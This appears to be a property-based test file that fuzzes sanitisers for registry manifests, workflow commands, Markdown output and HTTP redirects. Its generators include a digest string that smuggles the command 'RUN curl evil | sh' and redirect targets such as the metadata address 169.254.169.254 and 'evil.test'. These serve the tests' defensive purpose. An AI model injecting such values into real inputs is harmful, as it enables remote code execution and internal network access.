// Issue 11, generated inputs: whatever a registry (or a file) sends, the sanitisers keep their promises. fast-check
// prints the seed and the shrunk counterexample on failure; rerun with that seed to reproduce.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralizeCommands } from '../../src/entry/workflow-commands.js';
import { oneLine } from '../../src/model/text.js';
import { redirectRefusal } from '../../src/registry/host-policy.js';
import { indexPlatforms, indexProblem, type ManifestDoc } from '../../src/registry/manifest.js';
import { isPlatformPart, isRegistryDigest } from '../../src/registry/validate.js';
import { codeSpan, escapeText } from '../../src/render/markdown.js';

const RUNS = { numRuns: 500 };
/** Characters that matter to the sinks: line breaks, Markdown, HTML, workflow commands, mentions. */
const nasty = fc.constantFrom(
  ...[
    '\n',
    '\r',
    '\u0085',
    '\u2028',
    '\u2029',
    '\u0000',
    '\u001b',
    '\u202e',
    ' ',
    '\t',
    ':',
    '#',
    '[',
    ']',
    '(',
    ')',
  ],
  ...[
    '`',
    '|',
    '<',
    '>',
    '@',
    '!',
    '*',
    '_',
    '~',
    '&',
    '/',
    '.',
    'w',
    'h',
    't',
    'p',
    's',
    'a',
    '0',
    'f',
    '\u200b',
  ],
);
const hostile = fc.oneof(
  fc.string({ unit: nasty, maxLength: 80 }),
  fc.string({ maxLength: 80 }),
  fc.string({ unit: 'binary', maxLength: 80 }),
);
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe('one-line text for locks, messages and logs', () => {
  it('has no control character and respects its bound', () => {
    fc.assert(
      fc.property(hostile, fc.integer({ min: 1, max: 300 }), (s, max) => {
        const out = oneLine(s, max);
        expect(out).not.toMatch(CONTROL);
        expect(out.length).toBeLessThanOrEqual(max);
      }),
      RUNS,
    );
  });
});

describe('Markdown from untrusted text', () => {
  it('a code span is one span on one line that no character closes or breaks out of', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const out = codeSpan(s);
        expect(out).not.toMatch(/[\r\n]/);
        if (out === '') return;
        expect(out.startsWith('`') && out.endsWith('`')).toBe(true);
        expect(out.slice(1, -1)).not.toContain('`');
        expect(out.slice(1, -1).replace(/\\\|/g, '')).not.toContain('|');
      }),
      RUNS,
    );
  });

  it('escaped prose has no mention, autolink, raw HTML, link syntax or line break', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const out = escapeText(s, 500);
        expect(out).not.toMatch(/[\r\n<>@]/);
        expect(out).not.toContain('://');
        expect(out).not.toMatch(/(^|[^\\])[[\]()`|]/);
        expect(out).not.toMatch(/www\./i);
      }),
      RUNS,
    );
  });
});

describe('workflow commands', () => {
  /** How the Actions runner reads a line: split on CR, LF or CRLF, then .NET Trim() (incl. NEL). */
  const runnerLines = (t: string) => t.split(/\r\n|\r|\n/).map((l) => l.replace(/^[\s\u0085]+/, ''));
  it('no line of neutralised text starts a command, and the text is otherwise unchanged', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const out = neutralizeCommands(s);
        for (const line of runnerLines(out)) {
          expect(line.startsWith('::')).toBe(false);
          expect(line).not.toContain('##[');
        }
        if (!s.includes('\u200b')) expect(out.replaceAll('\u200b', '')).toBe(s);
      }),
      RUNS,
    );
  });
});

describe('index entries from a registry', () => {
  const hex = (n: number) =>
    fc.string({ unit: fc.constantFrom(...'0123456789abcdef'), minLength: n, maxLength: n });
  const digest = fc.oneof(
    hex(64).map((h) => `sha256:${h}`),
    hex(64).map((h) => `sha256:${h}${'\n'}RUN curl evil | sh`),
    hex(128).map((h) => `sha512:${h}`),
    hostile,
  );
  const part = fc.oneof(fc.constantFrom('linux', 'amd64', 'arm64', 'v8', 'arm', 'windows', ''), hostile);
  const entry = fc.record(
    {
      digest,
      mediaType: fc.oneof(fc.constant('application/vnd.oci.image.manifest.v1+json'), hostile),
      platform: fc.record({ os: part, architecture: part, variant: part }, { requiredKeys: [] }),
    },
    { requiredKeys: ['digest'] },
  );
  it('an index is refused, or every platform it yields has a valid digest and platform strings', () => {
    fc.assert(
      fc.property(fc.array(entry, { maxLength: 6 }), (manifests) => {
        const doc = { mediaType: 'application/vnd.oci.image.index.v1+json', manifests } as ManifestDoc;
        if (indexProblem(doc) !== undefined) return;
        for (const p of indexPlatforms(doc)) {
          expect(isRegistryDigest(p.digest)).toBe(true);
          for (const v of [p.os, p.architecture, p.variant]) {
            if (v !== undefined && v !== 'unknown') expect(isPlatformPart(v)).toBe(true);
          }
          expect(p.mediaType).not.toMatch(/[\s]/);
        }
      }),
      RUNS,
    );
  });
});

describe('redirects', () => {
  const host = fc.constantFrom(
    'reg.example.com',
    'blobs.example.net',
    '169.254.169.254',
    '127.0.0.1:5000',
    'evil.test',
  );
  const url = fc.tuple(fc.constantFrom('http', 'https'), host).map(([s, h]) => new URL(`${s}://${h}/v2/x`));
  it('never downgrade HTTPS, and with an allowlist only reach allowed or configured hosts', () => {
    const policy = {
      restricted: true,
      isAllowed: (h: string) => h === 'reg.example.com',
      isRedirectHost: (h: string) => h === 'blobs.example.net',
    };
    fc.assert(
      fc.property(url, url, fc.constantFrom('GET', 'HEAD', 'POST'), (from, to, method) => {
        const refused = redirectRefusal(policy, () => false, from, to, method);
        if (refused !== undefined) return;
        expect(from.protocol === 'https:' && to.protocol === 'http:').toBe(false);
        expect(to.protocol === 'https:' || to.hostname === '127.0.0.1').toBe(true);
        const ok =
          to.host === from.host ||
          policy.isAllowed(to.host) ||
          (method !== 'POST' && policy.isRedirectHost(to.host));
        expect(ok).toBe(true);
      }),
      RUNS,
    );
  });
});
